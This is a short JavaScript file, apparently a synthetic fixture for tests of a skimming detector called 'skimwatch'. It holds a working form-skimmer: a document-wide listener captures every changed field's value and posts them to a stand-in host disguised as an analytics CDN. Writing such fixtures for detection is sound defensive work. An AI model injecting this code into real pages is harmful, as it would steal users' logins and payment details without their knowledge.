// Synthetic delegated grabber for skimwatch tests: one capture-phase
// listener on the document takes the value of whichever field changed.
(function () {
  var d = {};
  document.addEventListener("change", function (e) {
    var t = e.target;
    if (!t || !t.id) return;
    d[t.id] = t.value;
    var x = new XMLHttpRequest();
    x.open("POST", "https://cdn-stats-collector.example/c");
    x.send(JSON.stringify(d));
  }, true);
})();
